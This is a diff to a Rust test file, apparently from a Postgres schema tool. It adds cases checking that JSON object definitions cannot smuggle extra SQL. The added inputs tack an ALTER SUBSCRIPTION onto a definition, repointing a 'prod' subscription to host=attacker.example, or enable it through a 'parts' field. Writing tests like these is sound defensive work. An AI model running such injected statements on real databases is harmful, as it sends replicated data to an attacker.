@@ -346,6 +346,13 @@ fn a_json_object_cannot_smuggle_sql() {
                     "definition": "CREATE VIEW public.v AS SELECT 1 AS one; CREATE SUBSCRIPTION s CONNECTION 'dbname=x' PUBLICATION p WITH (connect = false)"}),
             serde_json::json!({"kind": "subscription", "schema": "", "name": "s",
                     "definition": "CREATE SUBSCRIPTION s CONNECTION 'host=attacker.example dbname=x' PUBLICATION p"}),
+            // One that points another subscription elsewhere.
+            serde_json::json!({"kind": "subscription", "schema": "", "name": "s",
+                    "definition": "CREATE SUBSCRIPTION s CONNECTION 'dbname=x' PUBLICATION p WITH (connect = false); ALTER SUBSCRIPTION prod CONNECTION 'host=attacker.example'"}),
+            serde_json::json!({"kind": "subscription", "schema": "", "name": "s",
+                    "definition": "CREATE SUBSCRIPTION s CONNECTION 'dbname=x' PUBLICATION p WITH (connect = false)",
+                    "parts": {"fixed": "NONE false", "items": [{"key": "enabled",
+                        "add": "ALTER SUBSCRIPTION prod ENABLE", "drop": "ALTER SUBSCRIPTION s DISABLE"}]}}),
         ];
         for object in cases {
             let kind = object["kind"].as_str().unwrap_or_default().to_string();
